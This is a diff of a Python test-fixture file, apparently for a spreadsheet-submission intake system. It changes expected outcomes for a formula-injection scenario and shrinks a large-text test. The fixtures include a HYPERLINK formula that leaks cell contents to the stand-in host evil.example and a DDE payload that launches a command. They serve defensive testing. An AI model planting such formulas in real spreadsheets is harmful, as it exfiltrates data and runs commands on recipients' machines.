@@ -43,12 +43,12 @@ def _() -> Arrived:
     staff = people(878, 4)
     link = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     typed = (
-        Row(staff[0], "ask", ("name.illegal_char",), name=link, at_least=True),
+        Row(staff[0], None, ("name.illegal_char",), name=link, at_least=True),
         Row(staff[1], "ask", ("phone.format",), phone="=cmd|'/c calc'!A0", at_least=True),
         Row(staff[2], name=Formula('="' + staff[2].name + '"', staff[2].name)),
         Row(staff[3], remark="=1+1"),
     )
-    return Submission((Sheet(units.DESIGN, typed),), "partial", "awaiting_sender", client=FOXMAIL).arrived()
+    return Submission((Sheet(units.DESIGN, typed),), "partial", None, client=FOXMAIL).arrived()
 
 
 @story("603-ten-thousand-characters-in-a-cell")
@@ -62,7 +62,7 @@ def _() -> Arrived:
 @story("604-five-megabytes-of-text")
 def _() -> Arrived:
     """Five megabytes of text in the cells of another sheet do not stand in the way of the roster."""
-    filler = Grid("资料", long_texts(160, 32_000), (), frozenset(), ())
+    filler = Grid("资料", long_texts(56, 32_000), (), frozenset(), ())
     sheet = Sheet(units.SURVEY, rows(people(888, 4)), name="名单")
     return Submission((sheet,), "accept", "fulfilled", client=FOXMAIL, others=(filler,)).arrived()
 
